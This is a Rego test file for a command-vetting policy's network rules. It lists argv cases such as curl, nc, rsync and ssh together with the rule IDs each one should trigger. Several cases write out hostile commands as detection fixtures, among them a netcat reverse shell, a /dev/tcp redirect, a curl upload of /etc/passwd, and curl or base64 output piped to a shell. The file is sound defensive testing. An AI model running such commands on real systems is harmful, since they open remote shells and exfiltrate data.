package sallyport.rules_test

github := {"host": "github.com", "port": 443}

elsewhere := {"host": "example.com", "port": 443}

loop := {"host": "127.0.0.1", "port": 8080}

dial(argv, endpoints) := object.union(cmd(argv, {}), {"net": endpoints})

network_cases := {
	"an allowed host": {"unit": net_call([github]), "fires": {"network.allowed"}},
	"another host": {"unit": net_call([elsewhere]), "fires": {"network.other"}},
	"another port": {"unit": net_call([{"host": "github.com", "port": 22}]), "fires": {"network.other"}},
	"a host that cannot be told": {"unit": net_call([{"host": "", "port": 0}]), "fires": {"network.other"}},
	"loopback": {"unit": net_call([loop]), "fires": {"network.loopback"}},
	"loopback by name": {"unit": net_call([{"host": "api.localhost", "port": 80}]), "fires": {"network.loopback"}},
	"curl of an allowed host": {"unit": dial(["curl", "https://github.com"], [github]), "fires": set()},
	"curl of loopback": {"unit": dial(["curl", "http://127.0.0.1:8080"], [loop]), "fires": set()},
	"curl of another host": {"unit": dial(["curl", "https://example.com"], [elsewhere]), "fires": {"network.dial"}},
	"curl of who knows": {"unit": dial(["curl", "$x"], []), "fires": {"network.dial"}},
	"curl's version": {"unit": dial(["curl", "--version"], []), "fires": set()},
	"nc asks a port of this machine": {"unit": dial(["nc", "-z", "127.0.0.1", "8080"], [loop]), "fires": set()},
	"nc sends to this machine": {"unit": dial(["nc", "127.0.0.1", "8080"], [loop]), "fires": {"network.dial"}},
	"nc listens": {"unit": dial(["nc", "-l", "127.0.0.1", "8080"], [loop]), "fires": {"network.dial"}},
	"nc asks another machine": {"unit": dial(["nc", "-z", "example.com", "80"], [elsewhere]), "fires": {"network.dial"}},
	"rsync of folders": {"unit": cmd(["rsync", "-a", "src/", "dst/"], {}), "fires": set()},
	"rsync to a host": {"unit": cmd(["rsync", "-a", "src/", "h:dst/"], {}), "fires": {"network.dial"}},
	"rsync to who knows": {"unit": cmd(["rsync", "-a", "src/", "$x"], {"opaque": {"name": false, "args": true, "reason": ""}}), "fires": {"network.dial"}},
	"rsync with a command": {"unit": cmd(["rsync", "-a", "-e", "sh", "src/", "dst/"], {}), "fires": {"network.dial"}},
	"ssh": {"unit": dial(["ssh", "github.com"], [github]), "fires": {"network.dial"}},
	"upload": {"unit": dial(["curl", "-d", "x", "https://github.com"], [github]), "fires": {"network.upload"}},
	"upload to loopback": {"unit": dial(["curl", "-d", "x", "http://127.0.0.1:8080"], [loop]), "fires": set()},
	"upload of a system file": {
		"unit": object.union(touching(["curl", "-T", "/etc/passwd", "http://127.0.0.1:8080"], [], [touch("read", "/etc/passwd", "outside", "")], {}), {"net": [loop]}),
		"fires": {"network.upload-outside", "filesystem.sensitive"},
	},
	"curl piped to sh": {"unit": cmd(["sh"], {"fed_by": "curl"}), "fires": {"network.pipe-to-interpreter"}},
	"curl piped to jq": {"unit": cmd(["jq"], {"fed_by": "curl"}), "fires": set()},
	"base64 piped to bash": {"unit": cmd(["bash"], {"fed_by": "base64"}), "fires": {"network.decode-to-interpreter"}},
	"nc with a shell": {"unit": dial(["nc", "-e", "/bin/sh", "example.com"], [elsewhere]), "fires": {"network.dial", "network.reverse-shell"}},
	"/dev/tcp": {
		"unit": cmd(["bash"], {"redirects": [{"op": ">", "path": "/dev/tcp/example.com/80", "scope": "device", "guard": ""}], "has": has("redirects")}),
		"fires": {"network.dev-tcp"},
	},
}

test_network[name] if {
	some name, c in network_cases
	ids(c.unit) == c.fires
}
